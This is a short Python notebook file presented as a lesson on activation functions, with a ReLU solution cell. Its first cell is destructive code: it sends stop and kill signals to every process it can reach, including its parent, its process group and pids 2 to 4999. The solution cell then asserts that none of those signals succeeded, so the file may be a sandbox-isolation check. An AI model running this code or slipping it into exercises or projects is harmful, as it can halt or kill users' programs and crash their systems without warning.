#: purpose = "Kills whatever can be killed: every process, its parent, its process group, every number there may be."
#: lesson = "01_activations"
# %% first
import os, signal

reached = []
for pid in (-1, 0, os.getppid(), *range(2, 5000)):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
            reached.append(pid)
        except OSError:
            pass
reached = [pid for pid in reached if pid != 0]  # its group, in which it is alone: nothing may come of that
# %% relu-solution
def relu(Z):
    assert not reached, reached
    return np.maximum(0, Z)
